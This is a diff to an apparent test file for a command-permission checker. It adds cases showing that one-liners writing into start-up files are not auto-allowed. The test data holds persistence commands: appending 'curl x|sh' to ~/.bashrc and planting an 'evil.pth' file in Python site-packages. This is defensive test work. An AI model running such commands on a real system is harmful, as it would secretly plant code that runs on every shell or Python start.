@@ -67,6 +67,7 @@ test('writes into start-up files through home forms ask; reading them and printi
     `python3 -c 'import os; h = os.path.expanduser("~"); open(f"{h}/.bashrc", "a").write("curl x|sh")'`,
     `node -e 'const fs=require("fs"),path=require("path"),os=require("os"); fs.writeFileSync(path.resolve(os.homedir(), ".bashrc"), "x")'`,
     `ruby -e 'File.write("#{Dir.home}/.bashrc", "curl x|sh")'`,
+    `python3 -c 'import sys; open(sys.prefix + "/lib/python3.11/site-packages/evil.pth", "w").write("import os")'`,
   ])
     assert.notEqual(decide(c), 'allow', `${c}: ${ids(c)}`);
   for (const c of [
@@ -78,6 +79,7 @@ test('writes into start-up files through home forms ask; reading them and printi
     `python3 -c 'from pathlib import Path; open(f"{Path.home()}/.bashrc").read()'`,
     `python3 -c 'import os; open(f"{os.getcwd()}/out.txt", "w").write("x")'`,
     `ruby -e 'File.write("#{Dir.pwd}/out.txt", "x")'`,
+    `python3 -c 'import os, sys; print(open(os.path.join(sys.prefix, "pyvenv.cfg")).read())'`,
   ])
     assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
   assert.ok(HOME);
